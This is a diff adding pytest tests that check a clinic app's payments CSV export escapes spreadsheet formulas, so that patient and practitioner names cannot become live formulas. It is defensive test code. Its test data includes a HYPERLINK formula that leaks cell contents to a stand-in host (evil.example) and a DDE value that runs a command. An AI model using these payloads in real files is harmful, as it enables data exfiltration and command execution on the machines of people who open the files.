@@ -7,7 +7,7 @@ import io
 
 import pytest
 
-from conftest import HX, login_as, make_appointment, make_patient, make_user, text_of
+from conftest import HX, db_snapshot, login_as, make_appointment, make_patient, make_user, text_of
 from webapp.models import AuditEvent, Payment, VisitAct, Waiver, utcnow
 
 
@@ -160,6 +160,49 @@ def test_csv_rows_exact(client, app):
                                                               "practitioner": bruno.id})
     rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")), delimiter=";"))
     assert [r[2] for r in rows[1:]] == ["Jean Dupont"]
+
+
+# (practitioner's name, patient's first and last name) → (practitioner cell, patient cell) read back.
+@pytest.mark.parametrize("practitioner, first, last, expected", [
+    ("Dr Alice Martin", "=HYPERLINK(\"https://evil.example/?\"&A1;\"Click\")", "Durand",
+     ("Dr Alice Martin", "'=HYPERLINK(\"https://evil.example/?\"&A1;\"Click\") Durand")),
+    ("Dr Alice Martin", "+1+1", "Durand", ("Dr Alice Martin", "'+1+1 Durand")),
+    ("Dr Alice Martin", "-2+3", "cmd|' /C calc'!A0", ("Dr Alice Martin", "'-2+3 cmd|' /C calc'!A0")),
+    ("Dr Alice Martin", "@SUM(1+1)", "Durand", ("Dr Alice Martin", "'@SUM(1+1) Durand")),
+    ("Dr Alice Martin", "\t=1+1", "Durand", ("Dr Alice Martin", "'=1+1 Durand")),   # the name is trimmed
+    ("\t=1+1", "Anne", "Durand", ("'\t=1+1", "Anne Durand")),
+    ("\r=1+1", "Anne", "Durand", ("'\r=1+1", "Anne Durand")),
+    ("=1+1", "Anne", "Durand", ("'=1+1", "Anne Durand")),
+    ("Dr Alice Martin", "Anne", "=1+1", ("Dr Alice Martin", "Anne =1+1")),   # not at the start: plain text
+    ("Dr Alice Martin", "Anne-Marie", "Durand", ("Dr Alice Martin", "Anne-Marie Durand")),
+])
+def test_csv_cells_are_never_formulas(client, app, practitioner, first, last, expected):
+    doctor = make_user("practitioner", name=practitioner)
+    closed_visit(doctor, dt.datetime(2026, 3, 10, 9, 0), acts=(("TC", 2500),), amount=2500,
+                 first_name=first, last_name=last, birth_date=dt.date(1985, 2, 3))
+    login_as(client, "secretary")
+    before = db_snapshot()
+    response = client.get("/payments/acts.csv", query_string={"start": "2026-03-01", "end": "2026-03-15"})
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert rows[1] == ["2026-03-10", *expected, "1985-02-03", "TC", "25,00", "Requested"]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    after = db_snapshot()
+    assert {k: v for k, v in after.items() if k != "AuditEvent"} == \
+        {k: v for k, v in before.items() if k != "AuditEvent"}
+
+
+def test_csv_instant_visit_number_is_text_not_a_sum(client, app):
+    """An instant visit has no patient record: the cell holds its mobile number, which starts with "+"."""
+    doctor = make_user("practitioner", name="Dr Alice Martin")
+    appt = make_appointment(practitioner=doctor, patient=None, contact_phone="+33612345678", kind="instant",
+                            starts_at=dt.datetime(2026, 3, 10, 9, 0), status="closed",
+                            closed_at=dt.datetime(2026, 3, 10, 9, 25))
+    VisitAct.create(appointment=appt, code="TC", label="Act TC", fee_cents=2500)
+    login_as(client, "secretary")
+    response = client.get("/payments/acts.csv", query_string={"start": "2026-03-01", "end": "2026-03-15"})
+    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert rows[1] == ["2026-03-10", "Dr Alice Martin", "'+33612345678", "", "TC", "25,00", "Not requested"]
 
 
 def test_csv_of_a_practitioner_holds_only_their_visits(client, app):
